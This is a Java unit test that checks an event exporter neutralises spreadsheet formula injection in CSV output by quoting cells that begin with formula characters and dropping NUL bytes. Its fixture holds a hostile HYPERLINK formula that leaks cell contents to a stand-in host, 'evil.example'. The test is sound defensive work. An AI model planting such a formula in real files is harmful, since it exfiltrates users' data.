package org.dyad.store.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import org.dyad.model.analysis.Actor;
import org.dyad.store.Store;
import org.dyad.store.fixture.Corpus;
import org.dyad.store.fixture.Db;
import org.dyad.store.fixture.Story;
import org.dyad.store.query.EventFilter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A CSV export opened in a spreadsheet runs nothing: cells an article's text could make start with
 * a formula character get a leading single quote (OWASP's advice), NUL bytes are dropped, and numbers
 * stay numbers. Written and read back by the real DuckDB.
 */
class CsvExportTest {
  private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

  @TempDir
  Path tmp;

  /** One hostile article: its actors' names, trigger and sentence begin with formula characters. */
  private static Story hostile() {
    Story s = new Story("hostile", "-Rebels\u0000 @attacked Kyiv on Monday. Later\ttalks failed.")
        .title("Hostile").url("+https://evil.example/").published("2025-06-09");
    Actor rebels = s.actor(FORMULA, "ORGANIZATION", "UKRREB", "Rebels");
    Actor kyiv = s.actor("\tKyiv", "CITY", "UKRGOV", "Kyiv");
    s.event("@attacked", rebels, kyiv, Corpus.ACCUSE);
    return s;
  }

  @Test
  void cellsASpreadsheetWouldRunAreQuotedAndNulBytesDropped() throws SQLException {
    Path out = tmp.resolve("events.csv");
    try (Store store = Db.storeWith(tmp.resolve("store"), List.of(hostile()))) {
      assertEquals(1, new EventExporter(store).export(EventFilter.ALL, ExportFormat.CSV, out));
    }
    try (Connection conn = DriverManager.getConnection("jdbc:duckdb:");
         Statement st = conn.createStatement();
         ResultSet rs = st.executeQuery("SELECT source_name, target_name, trigger, sentence, source_url,"
             + " goldstein FROM read_csv('" + out.toString().replace("'", "''") + "', all_varchar = true)")) {
      rs.next();
      assertEquals("'" + FORMULA, rs.getString("source_name"));
      assertEquals("'\tKyiv", rs.getString("target_name"));
      assertEquals("'@attacked", rs.getString("trigger"));
      assertEquals("'-Rebels @attacked Kyiv on Monday.", rs.getString("sentence"));
      assertEquals("'+https://evil.example/", rs.getString("source_url"));
      assertEquals("-2.0", rs.getString("goldstein"), "a number is not text: no quote");
      assertFalse(rs.next());
    }
  }
}
